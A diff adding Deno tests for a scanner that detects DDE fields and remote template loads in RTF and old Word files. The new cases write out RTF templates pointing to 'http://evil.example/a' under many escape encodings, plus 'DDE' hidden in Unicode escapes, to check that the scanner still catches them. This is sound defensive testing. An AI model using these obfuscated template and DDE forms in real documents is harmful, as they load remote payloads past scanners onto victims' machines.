@@ -158,6 +158,10 @@ Deno.test("readRtf: fields, their instruction in groups, bytes and numbers of ch
       [],
     ],
     [field("IF {\\field{\\*\\fldinst DATE}{\\fldrslt DDE}}"), false, false, []],
+    [`\\uc0${field("\\u68\\u68\\u69  a")}`, true, false, []],
+    [field("\\u68xD\\u69\\'45 a"), true, false, []],
+    [field("{\\uc0 \\u68}D\\u69x a"), true, false, []],
+    [field("\\uc2\\u68xyDE a"), true, false, []],
   ];
   for (const [text, ...expected] of cases) {
     const { dde, loads, addresses } = readRtf(text);
@@ -176,6 +180,33 @@ Deno.test("readWordFields: a document of Word before 2007, in either alphabet", 
   assertEquals(read(`DDE a \x13 DATE \x14 DDE a\x15`), [false, false, []]);
 });
 
+Deno.test("readRtf: a template whose address is written in escapes", () => {
+  const address = "http://evil.example/a";
+  const coded = (sign: (code: number) => string) =>
+    Array.from(address, (letter) => sign(letter.charCodeAt(0))).join("");
+  const inTemplate = (inside: string) => `{\\rtf1{\\*\\template ${inside}}}`;
+  const cases = [
+    inTemplate(address),
+    inTemplate(coded((code) => `\\u${code}?`)),
+    inTemplate(coded((code) => `\\u${code - 65536}?`)),
+    inTemplate(coded((code) => `\\'${code.toString(16)}`)),
+    inTemplate(coded((code) => `\\u${code}\\'3f`)),
+    inTemplate(coded((code) => `\\u${code} x`)),
+    inTemplate(`\\uc0 ${coded((code) => `\\u${code} `)}`),
+    inTemplate(`\\uc2 ${coded((code) => `\\u${code}??`)}`),
+    `{\\rtf1\\uc0{\\*\\template ${coded((code) => `\\u${code} `)}}}`,
+    `{\\rtf1{\\uc0}{\\*\\template ${coded((code) => `\\u${code}?`)}}}`,
+    `{\\rtf1{\\*\r\n\\template\\'68{\\u116?}t\r\np://evil.example/a}}`,
+  ];
+  for (const text of cases) {
+    const { loads, addresses } = readRtf(text);
+    assertEquals([loads, addresses], [true, [address]], text);
+  }
+  for (const inside of ["C:\\\\Normal.dotm", "\\u78?ormal.dotm", "see http://a.example/"]) {
+    assertEquals(readRtf(inTemplate(inside)).loads, false, inside);
+  }
+});
+
 Deno.test("readFileContent: RTF by its content, whatever it is called", () => {
   const bytes = latin1('{\\rt{\\field{\\*\\fldinst DDE a "b"}}}');
   const file = part("bill.doc", bytes, "application/msword");
@@ -185,7 +216,14 @@ Deno.test("readFileContent: RTF by its content, whatever it is called", () => {
 
 Deno.test("readers of fields: linear in what is repeated", () => {
   const readers: readonly [(text: string) => unknown, readonly string[]][] = [
-    [readRtf, ["\\fldinst ", "{\\fldinst{", "\\fldinst\\'44", "{\\field{\\*\\fldinst DDE a}}"]],
+    [readRtf, [
+      "\\fldinst ",
+      "{\\fldinst{",
+      "\\fldinst\\'44",
+      "\\template ",
+      "\\uc0\\u68?",
+      "{\\field{\\*\\fldinst DDE a}}",
+    ]],
     [(text) => readWordFields(latin1(text)), ["\x13", "\x13 DDE a", "\x13hyperlink "]],
     [(text) => readOfficeFields(text, new FieldList()), [
       char("begin") + instruction("DDE"),
